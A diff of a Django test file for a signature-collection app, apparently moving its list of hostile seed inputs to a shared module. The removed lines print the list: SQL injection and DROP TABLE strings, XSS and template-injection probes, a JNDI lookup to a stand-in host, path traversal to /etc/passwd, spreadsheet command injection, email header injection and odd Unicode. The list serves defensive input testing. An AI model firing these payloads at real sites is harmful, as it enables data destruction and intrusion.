@@ -8,29 +8,11 @@ import re
 import pytest
 from django.test import Client
 
+from bench.trust.naughty import SEEDS
 from signatures.models import Signature
 
 from .posting import form_data
 
-# Our own, one of each family that breaks sites, then multiplied below.
-SEEDS = [
-    "' OR 1=1 --", '"; DROP TABLE signatures_signature; --', "1' UNION SELECT NULL,NULL--",
-    "') ; SELECT pg_sleep(10) --", "\\'; --", "%27%20OR%201=1", "${jndi:ldap://x.example/a}",
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
-    "javascript:alert(1)", "</title><script>alert(1)</script>", "'-alert(1)-'", "<b>bold</b>",
-    "{{ 7*7 }}", "{% debug %}", "#{7*7}", "<%= 7*7 %>", "&lt;script&gt;", "<!-- -->", "]]>",
-    "../../../../etc/passwd", "..\\..\\windows", "/dev/null", "file:///etc/passwd", "CON", "NUL",
-    "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "＝1+1",
-    "\x00", "a\x00b", "\x07\x08\x1b[31m", "\r\nBcc: x@example.org", "\x7f", "\x85", "\u2028",
-    "\u202eabc", "\u2066abc\u2069", "\u200f\u200e", "\ufeff", "\u200b", "\u3164", "\u00ad",
-    "Z̸̧̢̢̛͎̟̙̤͈̟̭̮͙a̶̛l̷g̴o̵", "e\u0301" * 50, "a" + "\u0300" * 100, "\ufffe", "\ufdd0", "\U000e0041",
-    "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳", "\U0001f4a9" * 40, "𝕳𝖊𝖑𝖑𝖔", "ﷺ", "ﬃ", "İ", "ß", "ſ", "Ω", "㍿",
-    "undefined", "null", "None", "true", "NaN", "Infinity", "-1", "1e309", "0x0", "9" * 400,
-    "()", "[]", "{}", "{\"$gt\": \"\"}", "a" * 10_000, "é" * 5_000, " " * 3_000, "%s%n%x", "%00",
-    "http://[", "www.x.example/?q=<", "a@b", "a@[127.0.0.1]", "x" * 300 + "@example.org",
-    "\"a b\"@example.org", "a@exa mple.org", "ä@exämple.org", "a@xn--.example", "a@.", "@",
-    "a@\u202eexample.org", "postmaster@localhost", "a@" + "b" * 300 + ".org", "用户@例子.广告",
-]  # fmt: skip
 FIELDS = ["name", "residence", "occupation", "email", "visibility", "wants_updates", "consent",
           "website", "rendered"]  # fmt: skip
 MARKUP = ["<script>alert", "<img src=x", "<svg/onload", "<b>bold"]
